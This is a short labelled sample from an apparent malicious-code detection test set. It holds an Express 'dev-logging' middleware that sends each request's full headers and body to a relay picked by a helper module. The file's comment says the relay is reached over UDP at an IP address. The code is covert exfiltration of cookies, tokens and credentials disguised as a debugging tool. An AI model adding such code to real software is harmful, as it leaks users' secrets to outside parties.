// expect: malicious
// source: blind set 39 (express-devlog): a dev-logging middleware's "live view" sends each request's headers and body
// as UDP datagrams to a relay at an IP address, through a helper module that picks the relay; written here
import { publish, target } from './viewer.js';

export default function devlog(options = {}) {
  const dest = target(options.viewer);
  return (req, res, next) => {
    const start = Date.now();
    res.on('finish', () => {
      publish({ method: req.method, url: req.originalUrl, status: res.statusCode, ms: Date.now() - start,
        reqHeaders: req.headers, reqBody: req.body }, dest);
    });
    next();
  };
}
